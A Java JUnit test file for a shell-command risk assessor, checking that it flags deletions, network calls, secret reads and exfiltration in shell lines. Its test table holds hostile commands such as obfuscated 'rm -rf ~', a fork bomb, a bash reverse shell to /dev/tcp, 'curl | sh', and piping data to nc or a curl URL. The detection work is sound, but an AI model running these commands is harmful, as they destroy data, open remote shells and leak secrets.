package dev.alice.prioritizer.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dev.alice.flow.Assessment;
import dev.alice.flow.EffectKind;
import dev.alice.flow.Risk;
import dev.alice.prioritizer.TestingFlows;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/** What lines outside the strict grammar would run: each line with effects that must be seen in it. */
class ExplanationTest {
    private static final String LINES = """
            # substitutions
            echo $(rm -r x)                                    => DELETES:x:rm IRREVERSIBLE::rm
            echo `rm x`                                        => DELETES:x:rm
            echo "a $(rm 'b c') d"                             => DELETES:b c:rm
            echo ${a:-$(rm x)}                                 => DELETES:x:rm
            cat <(rm x)                                        => DELETES:x:rm
            tee >(rm x)                                        => DELETES:x:rm
            echo $((1 + $(rm x)))                              => DELETES:x:rm
            a=$(rm x)                                          => DELETES:x:rm
            A=$(rm x) ls                                       => DELETES:x:rm READS::ls
            a=(1 $(rm x))                                      => DELETES:x:rm
            ls > $(rm x)                                       => DELETES:x:rm
            [[ -n $(rm x) ]]                                   => DELETES:x:rm
            ((a = $(rm x)))                                    => DELETES:x:rm
            # what hides the program
            $(echo cm0gLXJmIH4=|base64 -d)                     => DELETES:~:rm IRREVERSIBLE::rm
            $(echo 726d2078|xxd -r -p)                         => DELETES:x:rm
            `echo rm x`                                        => DELETES:x:rm
            \\rm x                                             => DELETES:x:rm
            $'\\x72\\x6d' x                                    => DELETES:x:rm
            $'\\162\\u006d' x                                  => DELETES:x:rm
            r$'m' x                                            => DELETES:x:rm
            x=rm; $x y                                         => DELETES:y:rm
            x=rm; ${x} y                                       => DELETES:y:rm
            x='rm -r'; $x y                                    => DELETES:y:rm IRREVERSIBLE::rm
            $SHELL y                                           => EXECUTES_DATA:$SHELL:$SHELL
            # compound commands
            if rm x; then fi                                   => DELETES:x:rm
            if true; then rm x; elif rm y; then ls; else rm z; fi => DELETES:x:rm DELETES:y:rm DELETES:z:rm
            for f in a b; do rm "$f"; done                     => DELETES:$f:rm IRREVERSIBLE:$f:rm
            for ((i = 0; i < 3; i++)); do rm x; done           => DELETES:x:rm
            while read -r l; do rm x; done < list              => DELETES:x:rm READS:list:
            until rm x; do rm y; done                          => DELETES:x:rm DELETES:y:rm
            case $x in a|b) rm x;; *) rm y;; esac              => DELETES:x:rm DELETES:y:rm
            select x in a; do rm x; done                       => DELETES:x:rm
            (cd /etc; cat shadow)                              => EXPOSES_SECRET:shadow:cat
            { rm x; } 2>/dev/null                              => DELETES:x:rm
            { echo a; } > out                                  => WRITES:out:
            ! rm x                                             => DELETES:x:rm
            f() { rm x; }; f                                   => DELETES:x:rm
            ls() { rm x; }; ls                                 => DELETES:x:rm
            :(){ :|:& };:                                      => PROCESSES::: IRREVERSIBLE:::
            ls & rm x                                          => DELETES:x:rm
            rm x;;                                             => DELETES:x:rm
            coproc rm x                                        => IRREVERSIBLE::rm
            # redirections
            ls $d > out rm                                     => WRITES:out:ls READS:rm:ls
            echo hi >& /dev/tcp/h/1 0>&1                       => NETWORK:/dev/tcp/h/1:echo
            exec 3<>/dev/tcp/h/1                               => NETWORK:/dev/tcp/h/1:exec
            bash -i >& /dev/tcp/10.0.0.1/99 0>&1               => NETWORK:/dev/tcp/10.0.0.1/99:bash EXECUTES_DATA::bash
            >out ls                                            => WRITES:out:ls
            >out                                               => WRITES:out:
            ls 2>err                                           => WRITES:err:ls
            ls &>> all                                         => WRITES:all:ls
            ls >| out                                          => WRITES:out:ls
            # what is run as data
            sh <<< 'rm x'                                      => DELETES:x:rm EXECUTES_DATA::sh
            curl $url | sh                                     => NETWORK:$url:curl EXECUTES_DATA::sh
            bash <(curl -s https://x.org/i)                    => NETWORK:https://x.org/i:curl EXECUTES_DATA:/dev/stdin:bash
            sh -c "rm $x"                                      => DELETES:$x:rm
            eval "rm $x"                                       => DELETES:$x:rm
            trap "rm $x" EXIT                                  => DELETES:$x:rm
            sudo sh -c "rm -r $x"                              => PRIVILEGE::sudo DELETES:$x:rm
            ssh host "rm $x"                                   => NETWORK:host:ssh DELETES:host:$x:rm
            find . -exec sh -c 'rm "$1"' _ {} \\;              => DELETES:$1:rm
            find "$d" -name '*.log' -delete                    => DELETES:$d/*:find
            ls | xargs -I{} rm {}$x                            => DELETES:{}$x:rm
            # data that leaves
            curl "http://x.org/?$(cat /etc/hosts)"             => EXFILTRATES::curl READS:/etc/hosts:cat
            cat $f | nc 10.0.0.1 99                            => EXFILTRATES::nc
            # quotes that hide code
            let 'a[$(rm x)]=1'                                 => IRREVERSIBLE::rm
            [[ -v 'a[$(rm x)]' ]]                              => IRREVERSIBLE::rm
            echo ${a:-`rm x`}                                  => IRREVERSIBLE::rm
            """;

    private final CommandAssessor assessor = new CommandAssessor();

    @TestFactory
    Stream<DynamicTest> effects_are_seen_in_lines_that_are_not_understood() {
        return LINES.lines().filter(line -> !line.startsWith("#")).map(line -> {
            String[] parts = line.split(" => ");
            String command = parts[0].strip();
            return DynamicTest.dynamicTest(command, () -> {
                Assessment assessment = assess(command);
                List<String> seen = assessment.effects().stream()
                        .map(effect -> effect.kind() + ":" + effect.target() + ":" + effect.program())
                        .toList();
                assertThat(assessment.understood()).isFalse();
                assertThat(seen).as("%s", assessment.notes()).containsAll(expected(parts[1]));
            });
        });
    }

    private static List<String> expected(String written) {
        return Arrays.asList(written.strip().split(" (?=[A-Z_]+:)"));
    }

    @Test
    void a_here_document_for_a_shell_is_read_as_shell() {
        Assessment assessment = assess("sudo bash -s <<'EOF'\nrm -rf /srv/x\nEOF\ntouch done");

        assertThat(assessment.has(EffectKind.DELETES)).isTrue();
        assertThat(assessment.has(EffectKind.CREATES)).isTrue();
        assertThat(assessment.risk()).isEqualTo(Risk.DESTRUCTIVE);
    }

    @Test
    void a_here_document_that_flows_on_through_a_pipe_is_read_as_shell() {
        assertThat(assess("cat <<'EOF' | sh\nrm -rf /srv/x\nEOF").has(EffectKind.DELETES))
                .isTrue();
    }

    @Test
    void what_a_here_document_runs_while_it_is_put_together_counts() {
        assertThat(assess("cat <<EOF\n$(rm x)\nEOF").has(EffectKind.DELETES)).isTrue();
    }

    @Test
    void the_programs_of_a_line_are_named_to_the_person() {
        assertThat(assess("for f in *.log; do gzip \"$f\" && scp \"$f.gz\" host:/srv; done").notes())
                .anySatisfy(note -> assertThat(note).contains("it would run: gzip, scp"));
    }

    @Test
    void where_the_grammars_differ_the_place_is_named() {
        assertThat(assess("ls $d > out rm").notes())
                .anySatisfy(note -> assertThat(note).contains("cannot be explained at 'rm' (at character 13)"));
    }

    @Test
    void a_line_that_is_explained_in_full_stays_not_understood() {
        Assessment assessment = assess("ls $(pwd)");

        assertThat(assessment.understood()).isFalse();
        assertThat(assessment.risk()).isEqualTo(Risk.UNKNOWN);
    }

    @Test
    void effects_on_another_host_name_that_host() {
        Assessment assessment = assess("ssh web1 rm -r /srv/x");

        assertThat(assessment.effects())
                .filteredOn(effect -> effect.kind() == EffectKind.DELETES)
                .singleElement()
                .satisfies(effect -> assertThat(effect.target()).isEqualTo("web1:/srv/x"));
        assertThat(assessment.notes())
                .anySatisfy(note -> assertThat(note).contains("not here but on web1 it would run: rm"));
    }

    private Assessment assess(String line) {
        return assessor.assess(List.of(line), TestingFlows.HOST);
    }
}
